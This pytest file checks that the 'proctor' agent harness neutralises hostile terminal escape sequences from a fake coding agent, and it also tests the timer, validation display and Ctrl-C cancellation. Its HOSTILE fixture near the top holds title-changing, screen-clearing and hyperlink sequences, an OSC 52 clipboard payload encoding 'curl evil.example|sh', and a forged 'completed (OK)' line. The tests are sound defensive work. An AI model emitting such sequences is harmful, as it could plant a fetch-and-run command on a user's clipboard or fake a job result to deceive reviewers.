"""Under a real pty (tmux): an agent's output changes no title, no clipboard, no screen; a benign one is shown;
the timer ticks while the agent is quiet; validation's phase does not show the agent's line; Ctrl-C cancels.

Each run is a `proctor run-agent` job with a fake agent, its stderr the tmux pane, its stdout a file. tmux
records what the pane's program did: `#{pane_title}` (OSC 0/2), paste buffers (OSC 52, `set-clipboard on`),
the screen (`capture-pane -p`, `-e` for attributes) and, through `pipe-pane`, every byte written to the pty.
The controls first show the harness sees a raw sequence when one is written.

No timing window: the fake agent (and validation) wait for a file the test writes once it saw on screen what
it was looking for (sampling the screen every 0.1 s during a 1.5 s sleep failed under load).
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from conftest import wait_until

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux not installed")

PROCTOR = str(Path(sys.executable).with_name("proctor"))
END = "END-OF-RUN"  # the pane's script prints it after the command, before it writes the done file
FAKE_DONE = "completed (OK) in 1.2s; worktree /tmp/repo-agents/x needs_human_review=false"
# Two lines: the progress line shows the last 100 characters of the agent's last line, so each is shown whole.
FIRST = ("\x1b]0;PWNED-TITLE\x07\x1b]2;PWNED-T2\x1b\\"
         "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # base64("curl evil.example|sh")
         "\x1b]8;;https://evil.example/\x07a\x1b]8;;\x07\n")
SECOND = "\u009d0;C1-TITLE\u009c\u202e\x1b[2J\x1b[H" + FAKE_DONE + "\n"
HOSTILE = FIRST + SECOND


class Tmux:
    def __init__(self, tmp: Path) -> None:
        self.sock = f"proctor-test-{uuid.uuid4().hex[:12]}"
        self.conf = tmp / "tmux.conf"
        self.conf.write_text("set -g set-clipboard on\n")

    def __call__(self, *args: str) -> str:
        return subprocess.run(["tmux", "-L", self.sock, "-f", str(self.conf), *args], check=True,
                              capture_output=True, text=True, timeout=20).stdout

    def kill(self) -> None:
        subprocess.run(["tmux", "-L", self.sock, "kill-server"], check=False, capture_output=True, timeout=20)


@pytest.fixture
def tmux(tmp_path):
    t = Tmux(tmp_path)
    yield t
    t.kill()


def _start(tmux: Tmux, tmp: Path, command: str, name: str, prelude: str = "") -> tuple[Path, Path]:
    """A session whose pane runs `command` once `go` exists; pipe-pane records the pty's bytes first."""
    go, raw, done = tmp / f"{name}.go", tmp / f"{name}.raw", tmp / f"{name}.done"
    script = tmp / f"{name}.sh"
    env = "".join(f"export {k}={shlex.quote(v)}\n" for k, v in os.environ.items()
                  if k in ("PATH", "PROCTOR_HOME", "HOME", "LANG", "LC_ALL") or k.startswith("GIT_"))
    # END-OF-RUN follows everything the command wrote to the pty: once it is on screen, so is the rest.
    script.write_text(f"{env}{prelude}echo BEFORE-MARKER\nwhile [ ! -e {shlex.quote(str(go))} ]; do sleep 0.05; done\n"
                      f"{command}\nstatus=$?\necho {END}\necho $status > {shlex.quote(str(done))}\nsleep 60\n")
    tmux("new-session", "-d", "-x", "160", "-y", "40", "-s", name, f"sh {shlex.quote(str(script))}")
    tmux("pipe-pane", "-t", name, "-o", f"cat >> {shlex.quote(str(raw))}")
    # The recorder is attached (its `cat >>` made the file) before the command may start: a fixed 0.3 s
    # pause was a loaded machine's race.
    wait_until(raw.exists, 60, "pipe-pane's recorder")
    go.write_text("")
    return raw, done


# A fake `claude` that follows steps: ("out", text) prints and flushes, ("wait", path) waits for the test to
# write path (or gives up after a generous deadline, exit 3), ("pid", path) records its pid.
_AGENT = """#!{python}
import json, os, sys, time
if sys.argv[1:] == ["--version"]:
    print("fake-claude 1.0"); sys.exit(0)
for kind, arg in json.loads({steps!r}):
    if kind == "out":
        sys.stdout.write(arg); sys.stdout.flush()
    elif kind == "pid":
        with open(arg, "w") as fh:
            fh.write(str(os.getpid()))
    elif kind == "wait":
        end = time.monotonic() + 120
        while not os.path.exists(arg):
            if time.monotonic() > end:
                sys.exit(3)
            time.sleep(0.02)
with open("a", "w") as fh:
    fh.write("1")
"""


def _agent(fake_bin: Path, *steps: tuple[str, str]) -> None:
    path = fake_bin / "claude"
    path.write_text(_AGENT.format(python=sys.executable, steps=json.dumps(steps)))
    path.chmod(0o755)


class Screens:
    """Every capture of the pane, kept; `until` waits for a condition on the latest, with a deadline."""

    def __init__(self, tmux: Tmux, name: str) -> None:
        self.tmux, self.name, self.seen = tmux, name, []

    def capture(self) -> str:
        self.seen.append(self.tmux("capture-pane", "-p", "-t", self.name))
        return self.seen[-1]

    def until(self, cond, what: str, timeout: float = 90) -> str:
        end = time.monotonic() + timeout
        while True:
            screen = self.capture()
            if cond(screen):
                return screen
            assert time.monotonic() < end, f"never on screen: {what}; last:\n{screen}"
            time.sleep(0.05)

    def finish(self, done: Path, timeout: float = 90) -> list[str]:
        # The end marker on screen, not a pause after the done file: the last screen then has all of it.
        self.until(lambda s: done.exists() and END in s, "the job's end", timeout)
        return self.seen


def _watch(tmux: Tmux, name: str, done: Path, timeout: float = 90) -> list[str]:
    return Screens(tmux, name).finish(done, timeout)


def _run_agent(repo: Path, out: Path, validate: str = "true") -> str:
    return (f"{shlex.quote(PROCTOR)} run-agent --agent claude --task t --repo {shlex.quote(str(repo))} "
            f"--ticket T --validate-cmd {shlex.quote(validate)} > {shlex.quote(str(out))}")


def _progress_line(screen: str, phase: str) -> str | None:
    return next((line for line in screen.splitlines() if phase in line), None)


def test_controls_the_harness_sees_a_raw_title_clipboard_and_clear(tmux, tmp_path):
    bytes_file = tmp_path / "hostile.bin"
    bytes_file.write_bytes(HOSTILE.encode())
    raw, done = _start(tmux, tmp_path, f"cat {shlex.quote(str(bytes_file))}; sleep 0.5", "ctl")
    screens = _watch(tmux, "ctl", done)
    assert tmux("display", "-p", "-t", "ctl", "#{pane_title}").strip() == "PWNED-T2"
    assert "curl evil.example|sh" in tmux("show-buffer")
    assert screens[-1].lstrip("\n").startswith(FAKE_DONE)  # cleared, then the fake line at the top
    assert "BEFORE-MARKER" not in screens[-1]
    assert b"\x1b]52;" in raw.read_bytes()


def test_agent_output_is_shown_escaped_and_drives_nothing(tmux, tmp_path, repo, fake_bin):
    _agent(fake_bin, ("out", FIRST), ("wait", str(tmp_path / "seen1")), ("out", SECOND),
           ("wait", str(tmp_path / "seen2")))
    out = tmp_path / "hostile.json"
    raw, done = _start(tmux, tmp_path, _run_agent(repo, out), "hostile")
    screens = Screens(tmux, "hostile")
    # The agent's lines were on screen (escaped) while it ran.
    screens.until(lambda s: "\\x1b]0;PWNED-TITLE\\x07" in s and "\\x1b]52;c;Y3Vy" in s and "\\x1b]8;;https" in s,
                  "the first line, escaped")
    (tmp_path / "seen1").write_text("")
    screens.until(lambda s: "\\x9d0;C1-TITLE\\x9c\\u202e\\x1b[2J\\x1b[Hcompleted (OK)" in s, "the second line, escaped")
    (tmp_path / "seen2").write_text("")
    seen = screens.finish(done)
    assert json.loads(out.read_text())["status"] == "completed"
    title = tmux("display", "-p", "-t", "hostile", "#{pane_title}")
    assert "PWNED" not in title and "C1-TITLE" not in title
    assert tmux("list-buffers") == ""  # OSC 52 wrote no clipboard, not once in all the redraws
    # The screen was never cleared under it, and no line ever began with the fake verdict.
    for s in seen:
        assert "BEFORE-MARKER" in s
        assert not any(line.startswith(FAKE_DONE[:40]) for line in s.splitlines())
    styled = tmux("capture-pane", "-p", "-e", "-t", "hostile")
    assert "\x1b]8;" not in styled and "\x1b]" not in styled
    data = raw.read_bytes()
    assert data.count(b"\\x1b]52;c;") >= 1
    for seq in (b"\x1b]", b"\x07", b"\x1b[2J", b"\x1b[H", b"\xc2\x9d", b"\xc2\x9c", "\u202e".encode()):
        assert seq not in data, seq


def test_control_a_benign_progress_line_is_shown(tmux, tmp_path, repo, fake_bin):
    _agent(fake_bin, ("out", "thinking hard about it\n"), ("wait", str(tmp_path / "seen")))
    out = tmp_path / "benign.json"
    _, done = _start(tmux, tmp_path, _run_agent(repo, out), "benign")
    screens = Screens(tmux, "benign")
    screens.until(lambda s: "thinking hard about it" in s, "the agent's line")
    (tmp_path / "seen").write_text("")
    final = screens.finish(done)[-1]
    assert json.loads(out.read_text())["status"] == "completed"
    assert "BEFORE-MARKER" in final
    assert any(line.startswith("completed (OK) in ") for line in final.splitlines()), final
    assert "next: proctor show" in final.replace("\n", "")  # the closing lines (issue 43), wrapped or not


ELAPSED = re.compile(r"running claude \(attempt 1\)\s+(\d+\.\d)s")


def _elapsed(screen: str) -> float | None:
    m = ELAPSED.search(screen)
    return float(m.group(1)) if m else None


def test_the_timer_ticks_while_the_agent_is_quiet(tmux, tmp_path, repo, fake_bin):
    _agent(fake_bin, ("out", "one line, then quiet\n"), ("wait", str(tmp_path / "go-on")))
    out = tmp_path / "quiet.json"
    _, done = _start(tmux, tmp_path, _run_agent(repo, out), "quiet")
    screens = Screens(tmux, "quiet")
    first = screens.until(lambda s: _elapsed(s) is not None and "one line, then quiet" in s, "the agent's line")
    t0 = _elapsed(first)
    # The agent prints nothing more: only the clock can move the line on (it froze at 0.1 s for 9 s).
    later = screens.until(lambda s: (_elapsed(s) or 0) >= t0 + 1.0, f"the elapsed time past {t0 + 1.0:.1f}s")
    assert "one line, then quiet" in later
    (tmp_path / "go-on").write_text("")
    screens.finish(done)
    assert json.loads(out.read_text())["status"] == "completed"


def _validating_run(tmux, tmp_path, repo, fake_bin, name):
    seen = tmp_path / f"{name}.seen"
    _agent(fake_bin, ("out", "AGENT-LAST-LINE\n"), ("wait", str(seen)))
    printed, go = tmp_path / f"{name}.printed", tmp_path / f"{name}.go-on"
    # The base's own run comes first, before the agent: it ends at once (the agent has not run yet).
    validate = (f"[ -e {shlex.quote(str(seen))} ] || exit 0; "
                f"echo VALIDATION-OWN-LINE; touch {shlex.quote(str(printed))}; "
                f"while [ ! -e {shlex.quote(str(go))} ]; do sleep 0.05; done")
    out = tmp_path / f"{name}.json"
    _, done = _start(tmux, tmp_path, _run_agent(repo, out, validate), name)
    screens = Screens(tmux, name)
    # control: the agent's line is shown while the agent runs
    screens.until(lambda s: "AGENT-LAST-LINE" in (_progress_line(s, "running claude") or ""), "the agent's line")
    seen.write_text("")
    screens.until(lambda s: printed.exists() and _progress_line(s, "validating") is not None,
                  "the validating phase, validation's line printed", timeout=90)
    return screens, go, done, out


def test_validating_does_not_show_the_agents_line(tmux, tmp_path, repo, fake_bin):
    screens, go, done, out = _validating_run(tmux, tmp_path, repo, fake_bin, "val")
    # Redrawn 12.5 times a second: two seconds of the phase, and never the agent's line in it.
    end = time.monotonic() + 2
    while time.monotonic() < end:
        line = _progress_line(screens.capture(), "validating")
        assert line is not None and "AGENT-LAST-LINE" not in line, line
        time.sleep(0.1)
    go.write_text("")
    screens.finish(done)
    assert json.loads(out.read_text())["status"] == "completed"


def test_validating_shows_validations_own_line(tmux, tmp_path, repo, fake_bin):
    screens, go, done, _ = _validating_run(tmux, tmp_path, repo, fake_bin, "valown")
    try:
        # Printed already (the file says so); a redraw is every 0.08 s. The default bound (90 s) only ends a
        # broken run: 10 s was a loaded machine's clock (issue 24).
        screens.until(lambda s: "VALIDATION-OWN-LINE" in (_progress_line(s, "validating") or ""),
                      "validation's own line on the progress line")
    finally:
        go.write_text("")
        screens.finish(done)


def test_ctrl_c_in_the_terminal_cancels_the_job_and_exits_130(tmux, tmp_path, repo, fake_bin):
    pid = tmp_path / "agent.pid"
    _agent(fake_bin, ("pid", str(pid)), ("out", "busy\n"), ("wait", str(tmp_path / "never")))
    out = tmp_path / "ctrlc.json"
    # The pane's shell catches SIGINT (a trap, not an ignore: proctor starts with the default disposition) so
    # it lives to record proctor's exit status.
    _, done = _start(tmux, tmp_path, _run_agent(repo, out), "ctrlc", prelude="trap 'true' INT\n")
    screens = Screens(tmux, "ctrlc")
    screens.until(lambda s: "busy" in s and pid.exists(), "the agent running")
    agent_pid = int(pid.read_text())
    tmux("send-keys", "-t", "ctrlc", "C-c")  # the terminal's SIGINT, to the whole foreground process group
    final = screens.finish(done)[-1]
    assert done.read_text().strip() == "130", final
    res = json.loads(out.read_text())
    assert res["status"] == "failed" and res["code"] == "CANCELLED", res
    assert "proctor: cancelled (SIGINT)" in final and "Aborted" not in final and "Traceback" not in final
    assert not Path(f"/proc/{agent_pid}").exists() or Path(f"/proc/{agent_pid}/stat").read_text().rsplit(
        ")", 1)[1].split()[0] in ("Z", "X")
